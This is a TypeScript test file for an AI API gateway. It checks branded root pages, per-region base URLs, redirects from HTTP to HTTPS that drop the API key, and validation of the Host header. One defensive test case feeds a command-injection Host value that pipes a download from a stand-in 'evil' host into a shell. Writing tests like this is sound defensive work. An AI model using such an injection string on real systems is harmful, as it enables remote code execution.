import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { type Customer, startGateway, type TestGateway } from "../support/gateway.ts";

const CONFIG = {
  upstreams: [{ id: "demo", provider: "demo" }],
  models: [{ id: "m", price: { input: "1", output: "1" }, targets: [{ upstream: "demo" }] }],
  brand: {
    name: "Acme AI",
    key_variable: "ACME_KEY",
    base_urls: { openai: "https://api.acme.test/openai/v1", codex: "https://api.acme.test/openai" },
  },
  hosts: [
    { host: "api.acme.test", purpose: "Everywhere" },
    { host: "eu.acme.test", purpose: "Europe", region: "eu" },
    { host: "lan.acme.test", scheme: "http" },
    { host: "console.acme.test", role: "console" },
    { host: "probe.acme.test", role: "probe" },
  ],
  regions: [{ id: "eu", display_name: "Europe", city: "Frankfurt" }, { id: "us" }],
  trusted_proxies: ["127.0.0.1"],
};

describe("hosts, brand and regions", () => {
  let gateway: TestGateway;
  let customer: Customer;
  beforeAll(async () => {
    gateway = await startGateway({ config: CONFIG, env: { QUOIN_REGION: "eu" } });
    customer = await gateway.customer();
  });
  afterAll(() => gateway.close());

  const get = (path: string, host: string, headers: Record<string, string> = {}, method = "GET") =>
    fetch(gateway.url + path, { method, redirect: "manual", headers: { host, ...headers } });
  const byHttp = { "x-forwarded-proto": "http" };

  test("the root says whose service this is, and its base URLs", async () => {
    const text = await (await get("/", "api.acme.test")).text();
    expect(text).toContain("Acme AI is running");
    expect(text).toMatch(/https:\/\/api\.acme\.test\/openai\/v1\n/);
    expect(text).toContain("https://console.acme.test/console\n");
    expect(text).toContain("curl -fsSL https://api.acme.test/setup/\n");
    expect(text).not.toContain("Quoin");
  });

  test("who comes to the root with a browser is led to the page for visitors", async () => {
    const accept = "text/html,application/xhtml+xml,*/*;q=0.8";
    const { status, headers } = await get("/", "api.acme.test", { accept });
    expect([status, headers.get("location")]).toEqual([302, "https://console.acme.test/console/home"]);
    expect(headers.get("vary")).toBe("accept");
  });

  test("the catalogue has every base URL, by region too", async () => {
    const response = await get("/.well-known/quoin.json", "eu.acme.test");
    expect(response.headers.get("access-control-allow-origin")).toBe("*");
    const catalogue = (await response.json()) as Record<string, unknown>;
    const eu = {
      anthropic: "https://eu.acme.test",
      openai: "https://eu.acme.test/openai/v1",
      gemini: "https://eu.acme.test",
      codex: "https://eu.acme.test/openai",
      speech: "https://eu.acme.test/api",
    };
    expect(catalogue).toMatchObject({
      brand: { name: "Acme AI", key_variable: "ACME_KEY" },
      base_urls: { anthropic: "https://api.acme.test", openai: "https://api.acme.test/openai/v1" },
      region: "eu",
      regions: [
        { id: "eu", display_name: "Europe", city: "Frankfurt", base_urls: eu },
        { id: "us", display_name: "us", base_urls: null },
      ],
      key_prefixes: [{ plan: "default", prefix: "qn_live_" }],
    });
    const hosts = catalogue.hosts as { host: string; base_urls?: object }[];
    expect(hosts.map(({ host }) => host)).toEqual(CONFIG.hosts.map(({ host }) => host));
    expect(hosts[1]?.base_urls).toEqual(eu);
    expect(hosts[3]?.base_urls).toBeUndefined();
    expect(JSON.stringify(catalogue)).not.toMatch(/demo|upstream/);
  });

  test("a host by plain HTTP keeps its port", async () => {
    const text = await (await get("/", "lan.acme.test:8787")).text();
    expect(text).toContain("curl -fsSL http://lan.acme.test:8787/setup/\n");
  });

  test("hosts of another role show what they are for", async () => {
    expect((await get("/", "console.acme.test")).headers.get("location")).toBe("/console");
    expect((await get("/", "probe.acme.test")).headers.get("location")).toBe("/console/probe");
  });

  test("plain HTTP goes to HTTPS, without the key", async () => {
    const headers = { ...byHttp, authorization: `Bearer ${customer.key}` };
    const path = `/v1beta/models?key=${customer.key}&pageSize=5`;
    const response = await get(path, "eu.acme.test:80", headers, "POST");
    expect(response.status).toBe(308);
    expect(response.headers.get("location")).toBe("https://eu.acme.test/v1beta/models?pageSize=5");
    const said = JSON.stringify([...response.headers]) + (await response.text());
    expect(said).toContain("https://eu.acme.test");
    expect(said).not.toContain(customer.key);
  });

  test("what need not, or cannot be told to, is served where it came", async () => {
    const authorization = `Bearer ${customer.key}`;
    const status = async (host: string, headers: Record<string, string>) =>
      (await get("/v1/models", host, { authorization, ...headers })).status;
    expect(await status("api.acme.test", { "x-forwarded-proto": "https" })).toBe(200);
    expect(await status("api.acme.test", {})).toBe(200);
    expect(await status("lan.acme.test", byHttp)).toBe(200);
    expect(await status("elsewhere.test", byHttp)).toBe(200);
  });

  test("load balancers ask by plain HTTP whether it runs", async () => {
    for (const path of ["/healthz", "/readyz"])
      expect((await get(path, "api.acme.test", byHttp)).status).toBe(200);
  });

  test("every answer says from which region it comes, and so does its record", async () => {
    const ask = (key: string) =>
      fetch(`${gateway.url}/v1/chat/completions`, {
        method: "POST",
        headers: { authorization: `Bearer ${key}` },
        body: JSON.stringify({ model: "m", messages: [{ role: "user", content: "Hello" }] }),
      });
    for (const [key, status] of [
      [customer.key, 200],
      ["nobody", 401],
    ] as const) {
      const response = await ask(key);
      await response.text();
      expect(response.status).toBe(status);
      expect(response.headers.get("x-quoin-region")).toBe("eu");
    }
    const list = await get("/v1/models", "api.acme.test", { authorization: `Bearer ${customer.key}` });
    expect(list.headers.get("x-quoin-region")).toBe("eu");
    expect((await gateway.requests(customer)).map(({ region }) => region)).toEqual(["eu"]);
  });
});

describe("without hosts", () => {
  test.each([
    ["gw.lan:8787", "http://gw.lan:8787"],
    ["[::1]:8787", "http://[::1]:8787"],
    [`x";curl evil|sh;"`, "http://localhost"],
    ["a b", "http://localhost"],
  ])("the Host header %p is believed where it can be one", async (host, origin) => {
    const { hosts: _hosts, regions: _regions, brand: _brand, ...config } = CONFIG;
    const gateway = await startGateway({ config });
    const response = await fetch(`${gateway.url}/.well-known/quoin.json`, { headers: { host } });
    const { base_urls, region } = (await response.json()) as Record<string, unknown>;
    expect(base_urls).toMatchObject({ anthropic: origin, openai: `${origin}/v1`, speech: `${origin}/api` });
    expect(region).toBeNull();
    expect(response.headers.get("x-quoin-region")).toBeNull();
    await gateway.close();
  });

  test("a proxy that nobody trusts redirects nothing", async () => {
    const gateway = await startGateway({ config: { ...CONFIG, trusted_proxies: [] } });
    const headers = { host: "api.acme.test", "x-forwarded-proto": "http" };
    const response = await fetch(gateway.url, { headers, redirect: "manual" });
    expect(response.status).toBe(200);
    await gateway.close();
  });
});
